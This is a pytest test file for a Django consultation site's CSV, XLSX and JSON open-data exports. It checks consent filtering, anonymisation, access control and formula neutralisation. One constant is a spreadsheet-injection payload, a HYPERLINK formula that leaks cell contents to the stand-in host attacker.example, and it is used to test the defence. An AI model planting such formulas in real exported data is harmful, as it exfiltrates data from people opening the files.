"""Open data: the public and the complete edition of a consultation's inputs, as CSV, XLSX and JSON."""

import csv
import io
import json
import tracemalloc
from http import HTTPStatus

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from accounts.models import Organisation
from accounts.spreadsheets import neutralise
from consultations.exports import (
    COMPLETE,
    PUBLIC,
    rows,
    stream_csv,
    stream_json,
    write_xlsx,
)
from consultations.models import Answer, Consultation, Submission, SubmissionState
from tests.factories import InputFactory, OrganisationFactory, category, country, inputs_in_bulk

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def organisation(name, slug, iso3, **extra):
    return OrganisationFactory(
        name=name, category=category(slug), country=country(iso3), status=Organisation.Status.VERIFIED, **extra
    )


@pytest.fixture
def record(consultation, moderator):
    """Inputs in every state and consent; one of them written to trick a spreadsheet."""
    return {
        "kenya": InputFactory(
            consultation=consultation,
            organisation=organisation("Kenya Mission", "government", "KEN"),
            answers={1: "Kenya on cooperation", 2: "Governments lead", 3: "Asante"},
            moderator=moderator,
            accepted=True,
        ),
        "anonymous": InputFactory(
            consultation=consultation,
            organisation=organisation("Quiet NGO", "civil-society", "NPL"),
            answers={1: "An anonymous view on cooperation", 2: "Rights first"},
            language="fr",
            moderator=moderator,
            accepted=True,
            anonymous=True,
        ),
        "formula": InputFactory(
            consultation=consultation,
            organisation=organisation("@Risk Institute", "academic-community", "FIN"),
            answers={1: FORMULA, 2: "+41 22 917 12 34", 3: "-- a list\n- of points"},
            moderator=moderator,
            accepted=True,
        ),
        "secret": InputFactory(
            consultation=consultation,
            organisation=organisation("Secret Institute", "academic-community", "JPN"),
            answers={1: "Confidential cooperation", 2: "Research"},
            moderator=moderator,
            accepted=True,
            secretariat_only=True,
        ),
        "rejected": InputFactory(
            consultation=consultation,
            organisation=organisation("Spam Corp", "private-sector", "USA"),
            answers={1: "Buy now cooperation", 2: "x"},
            moderator=moderator,
            rejected=True,
        ),
        "submitted": InputFactory(
            consultation=consultation,
            organisation=organisation("Pending Union", "intergovernmental", "CHE", is_international=True),
            answers={1: "Awaiting cooperation", 2: "y"},
            moderator=moderator,
        ),
        "draft": InputFactory(
            consultation=consultation,
            organisation=organisation("Drafty", "technical-community", "FJI"),
            answers={1: "Draft cooperation"},
            moderator=moderator,
            draft=True,
        ),
    }


def csv_text(consultation, edition):
    return "".join(stream_csv(consultation, edition=edition))


def csv_table(text):
    assert text.startswith("\ufeff")  # so spreadsheet programs read UTF-8
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def by_reference(table):
    header, *body = table
    return {row[0]: dict(zip(header, row, strict=True)) for row in body}


def xlsx_sheet(data):
    return openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)["Inputs"]


def xlsx_table(sheet):
    return [[cell.value if cell.value is not None else "" for cell in row] for row in sheet.iter_rows()]


def accept_all(consultation):
    Submission.objects.filter(consultation=consultation).update(state=SubmissionState.ACCEPTED)


# What each edition holds


def test_it_puts_only_the_public_record_in_the_public_edition(consultation, record):
    text = csv_text(consultation, PUBLIC)
    inputs = by_reference(csv_table(text))
    assert set(inputs) == {record[key].reference for key in ("kenya", "anonymous", "formula")}
    for hidden in ("Secret Institute", "Confidential", "Spam Corp", "Pending Union", "Drafty", "consent"):
        assert hidden not in text


def test_it_shows_an_anonymous_input_by_category_and_region_only(consultation, record):
    text = csv_text(consultation, PUBLIC)
    anonymous = by_reference(csv_table(text))[record["anonymous"].reference]
    assert "Quiet NGO" not in text and "Nepal" not in text and "NPL" not in text
    assert anonymous["organisation"] == anonymous["country"] == anonymous["country_iso3"] == ""
    assert anonymous["development_status"] == ""  # with the region it would narrow the country down
    assert anonymous["category"] == "Civil society"
    assert anonymous["regional_group"] == "Asia-Pacific States"
    assert anonymous["q2"] == "Rights first"


def test_it_puts_every_accepted_input_in_the_complete_edition(consultation, record):
    inputs = by_reference(csv_table(csv_text(consultation, COMPLETE)))
    assert set(inputs) == {record[key].reference for key in ("kenya", "anonymous", "formula", "secret")}
    assert inputs[record["secret"].reference]["consent"] == "secretariat"
    assert inputs[record["secret"].reference]["organisation"] == "Secret Institute"
    anonymous = inputs[record["anonymous"].reference]
    assert (anonymous["organisation"], anonymous["country"], anonymous["consent"]) == (
        "Quiet NGO",
        "Nepal",
        "anonymous",
    )


def test_it_leaves_out_inputs_of_organisations_no_longer_verified(consultation, record):
    Organisation.objects.filter(pk=record["kenya"].organisation_id).update(status=Organisation.Status.REFUSED)
    for edition in (PUBLIC, COMPLETE):
        assert record["kenya"].reference not in by_reference(list(rows(consultation, edition=edition)))


def test_it_gives_one_column_per_question_after_the_input_described(consultation, record):
    table = list(rows(consultation, edition=COMPLETE))
    assert table[0] == [
        "reference",
        "organisation",
        "category",
        "country",
        "country_iso3",
        "regional_group",
        "development_status",
        "language",
        "consent",
        "first_submitted_at",
        "submitted_at",
        "digest",
        "q1",
        "q2",
        "q3",
    ]
    assert "consent" not in next(rows(consultation, edition=PUBLIC))
    kenya = record["kenya"]
    assert by_reference(table)[kenya.reference] == {
        "reference": kenya.reference,
        "organisation": "Kenya Mission",
        "category": "Government",
        "country": "Kenya",
        "country_iso3": "KEN",
        "regional_group": "African States",
        "development_status": "developing",
        "language": "en",
        "consent": "public",
        "first_submitted_at": kenya.first_submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "submitted_at": kenya.submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "digest": kenya.digest,
        "q1": "Kenya on cooperation",
        "q2": "Governments lead",
        "q3": "Asante",
    }
    assert [row[0] for row in table[1:]] == sorted(row[0] for row in table[1:])  # in reference order


def test_it_exports_the_answers_as_sent_not_the_working_copy(consultation, record):
    kenya = record["kenya"]
    Answer.objects.filter(submission=kenya, question__number=1).update(text="Rewritten after sending")
    for edition in (PUBLIC, COMPLETE):
        text = csv_text(consultation, edition)
        assert "Rewritten after sending" not in text
        assert by_reference(csv_table(text))[kenya.reference]["q1"] == "Kenya on cooperation"


# Formats


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        ("Plain answer", "Plain answer"),
    ],
)
def test_it_neutralises_what_a_spreadsheet_would_evaluate(value, expected):
    assert neutralise(value) == expected


def test_it_neutralises_formulas_in_csv(consultation, record):
    formula = by_reference(csv_table(csv_text(consultation, PUBLIC)))[record["formula"].reference]
    assert formula["q1"] == "'" + FORMULA
    assert formula["q2"] == "'+41 22 917 12 34"
    assert formula["q3"] == "'-- a list\n- of points"
    assert formula["organisation"] == "'@Risk Institute"


def test_it_never_stores_a_formula_in_xlsx(consultation, record):
    out = io.BytesIO()
    write_xlsx(consultation, edition=COMPLETE, path_or_file=out)
    sheet = xlsx_sheet(out.getvalue())
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    header = [cell.value for cell in sheet[1]]
    line = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == record["formula"].reference)
    q1 = line[header.index("q1")]
    assert (q1.value, q1.data_type) == ("'" + FORMULA, "s")
    assert xlsx_table(sheet) == [[neutralise(v) for v in row] for row in rows(consultation, edition=COMPLETE)]


def test_it_leaves_out_of_xlsx_the_control_characters_xml_cannot_hold(consultation, record):
    Organisation.objects.filter(pk=record["kenya"].organisation_id).update(name="Kenya\x07 Mission")
    out = io.BytesIO()
    write_xlsx(consultation, edition=PUBLIC, path_or_file=out)
    assert "Kenya Mission" in [cell.value for cell in xlsx_sheet(out.getvalue())["B"]]


def test_it_gives_the_same_rows_in_every_format(consultation, record):
    table = list(rows(consultation, edition=PUBLIC))
    document = json.loads("".join(stream_json(consultation, edition=PUBLIC)))
    assert document == [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert any(item["q1"] == FORMULA for item in document)  # JSON is read by programs: the text as sent
    assert csv_table(csv_text(consultation, PUBLIC)) == [[neutralise(v) for v in row] for row in table]


def test_it_writes_an_empty_edition_as_a_header_alone(consultation):
    assert len(csv_table(csv_text(consultation, PUBLIC))) == 1
    assert json.loads("".join(stream_json(consultation, edition=PUBLIC))) == []


# The command


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_it_exports_the_complete_edition_from_the_command(consultation, record, tmp_path, fmt):
    path = tmp_path / f"inputs.{fmt}"
    out = io.StringIO()
    call_command("export_inputs", "wgec-2013", "--format", fmt, "--output", str(path), stdout=out)
    assert "4 inputs of WGEC-2013 exported (complete edition" in out.getvalue()
    expected = list(rows(consultation, edition=COMPLETE))
    if fmt == "csv":
        assert csv_table(path.read_text(encoding="utf-8")) == [[neutralise(v) for v in row] for row in expected]
    elif fmt == "xlsx":
        assert xlsx_table(xlsx_sheet(path.read_bytes())) == [[neutralise(v) for v in row] for row in expected]
    else:
        document = json.loads(path.read_text(encoding="utf-8"))
        assert document == [dict(zip(expected[0], row, strict=True)) for row in expected[1:]]


def test_it_exports_the_public_edition_to_standard_output(consultation, record):
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "export_inputs", "wgec-2013", "--format", "json", "--edition", "public", "--output", "-", stdout=out, stderr=err
    )
    assert {item["reference"] for item in json.loads(out.getvalue())} == {
        record[key].reference for key in ("kenya", "anonymous", "formula")
    }
    assert "3 inputs of WGEC-2013 exported (public edition, json)." in err.getvalue()


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["no-such-consultation", "--format", "csv"], "No consultation has the slug no-such-consultation"),
        (["wgec-2013", "--format", "pdf"], "invalid choice: 'pdf'"),
        (["wgec-2013", "--format", "csv", "--edition", "secret"], "invalid choice: 'secret'"),
        (["wgec-2013", "--format", "xlsx", "--output", "-"], "XLSX workbook is binary"),
    ],
)
def test_it_refuses_what_it_cannot_export(consultation, tmp_path, arguments, message):
    if "--output" not in arguments:
        arguments = [*arguments, "--output", str(tmp_path / "inputs")]
    with pytest.raises(CommandError, match=message):
        call_command("export_inputs", *arguments, stdout=io.StringIO())
    assert not (tmp_path / "inputs").exists()


def test_it_requires_an_output(consultation):
    with pytest.raises(CommandError, match="--output"):
        call_command("export_inputs", "wgec-2013", "--format", "csv")


# Scale


@pytest.mark.parametrize("count", [10, 2500])
@pytest.mark.parametrize("edition", [PUBLIC, COMPLETE])
def test_it_exports_in_a_number_of_queries_that_grows_with_batches_only(
    consultation, django_assert_max_num_queries, count, edition
):
    inputs_in_bulk(consultation, count)
    accept_all(consultation)
    # questions; then for each 500 inputs (five batches here) the inputs with their version, organisation,
    # category and country joined, and the answers of those versions; and one that finds no more
    with django_assert_max_num_queries(12):
        table = list(rows(consultation, edition=edition))
    assert len(table) == count + 1
    assert len({row[0] for row in table[1:]}) == count  # the batches neither skip nor repeat an input


@pytest.mark.parametrize("count", [10, 2500])
def test_it_serves_the_public_download_in_a_number_of_queries_that_grows_with_batches_only(
    client, consultation, django_assert_max_num_queries, count
):
    inputs_in_bulk(consultation, count)
    accept_all(consultation)
    # the consultation, then the twelve queries of the export itself
    with django_assert_max_num_queries(13):
        response = client.get(reverse("consultations:public_export", args=[consultation.slug, "csv"]))
        lines = b"".join(response.streaming_content).decode().splitlines()
    assert len(lines) == count + 1


def peak_streaming(consultation):
    """Bytes written and peak memory allocated while streaming the complete edition as CSV."""
    tracemalloc.start()
    try:
        written = sum(len(chunk) for chunk in stream_csv(consultation, edition=COMPLETE))
        return written, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_it_streams_in_memory_that_does_not_grow_with_the_number_of_inputs(consultation):
    inputs_in_bulk(consultation, 500)
    accept_all(consultation)
    peak_streaming(consultation)  # once first, so one-time caches are not what is compared
    small_size, small_peak = peak_streaming(consultation)
    inputs_in_bulk(consultation, 4500, start=500)
    accept_all(consultation)
    large_size, large_peak = peak_streaming(consultation)
    assert large_size > 9 * small_size
    assert large_peak < 2 * small_peak, (small_peak, large_peak)


# The downloads


def test_it_opens_the_complete_edition_to_the_secretariat_only(
    client, consultation, record, focal_point, moderator, chair
):
    url = reverse("consultations:moderation_export", args=[consultation.slug, "csv"])
    response = client.get(url)
    assert response.status_code == HTTPStatus.FOUND and "/accounts/login/" in response["Location"]
    client.force_login(focal_point)
    assert client.get(url).status_code == HTTPStatus.FORBIDDEN
    for user in (moderator, chair):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == HTTPStatus.OK, user
        assert response["Content-Disposition"] == 'attachment; filename="wgec-2013-inputs-complete.csv"'
        assert response["Cache-Control"] == "private, no-store"
        text = b"".join(response.streaming_content).decode("utf-8")
        assert record["secret"].reference in by_reference(csv_table(text))


def test_it_offers_the_public_edition_to_anyone(client, consultation, record):
    response = client.get(reverse("consultations:public_export", args=[consultation.slug, "csv"]))
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="wgec-2013-inputs-public.csv"'
    text = b"".join(response.streaming_content).decode("utf-8")
    assert set(by_reference(csv_table(text))) == {record[key].reference for key in ("kenya", "anonymous", "formula")}


@pytest.mark.parametrize("fmt", ["json", "xlsx"])
def test_it_downloads_each_format(client, consultation, record, moderator, fmt):
    client.force_login(moderator)
    for name, edition in (("consultations:public_export", PUBLIC), ("consultations:moderation_export", COMPLETE)):
        response = client.get(reverse(name, args=[consultation.slug, fmt]))
        assert response.status_code == HTTPStatus.OK
        assert f'filename="wgec-2013-inputs-{edition}.{fmt}"' in response["Content-Disposition"]
        data = b"".join(response.streaming_content)
        expected = list(rows(consultation, edition=edition))
        if fmt == "json":
            assert len(json.loads(data)) == len(expected) - 1
        else:
            assert xlsx_table(xlsx_sheet(data)) == [[neutralise(v) for v in row] for row in expected]


def test_it_finds_no_export_of_a_consultation_without_a_public_record(client, consultation, record, moderator):
    for status in (Consultation.Status.DRAFT, Consultation.Status.CLOSED):
        consultation.status = status
        consultation.save()
        assert (
            client.get(reverse("consultations:public_export", args=[consultation.slug, "csv"])).status_code
            == HTTPStatus.NOT_FOUND
        )
    client.force_login(moderator)  # the secretariat still exports a closed consultation's inputs
    assert (
        client.get(reverse("consultations:moderation_export", args=[consultation.slug, "csv"])).status_code
        == HTTPStatus.OK
    )


def test_it_finds_no_unknown_format_or_consultation(client, consultation, moderator):
    assert (
        client.get(reverse("consultations:public_export", args=[consultation.slug, "pdf"])).status_code
        == HTTPStatus.NOT_FOUND
    )
    assert (
        client.get(reverse("consultations:public_export", args=["no-such", "csv"])).status_code == HTTPStatus.NOT_FOUND
    )
    client.force_login(moderator)
    assert (
        client.get(reverse("consultations:moderation_export", args=[consultation.slug, "pdf"])).status_code
        == HTTPStatus.NOT_FOUND
    )
    assert (
        client.get(reverse("consultations:moderation_export", args=["no-such", "csv"])).status_code
        == HTTPStatus.NOT_FOUND
    )
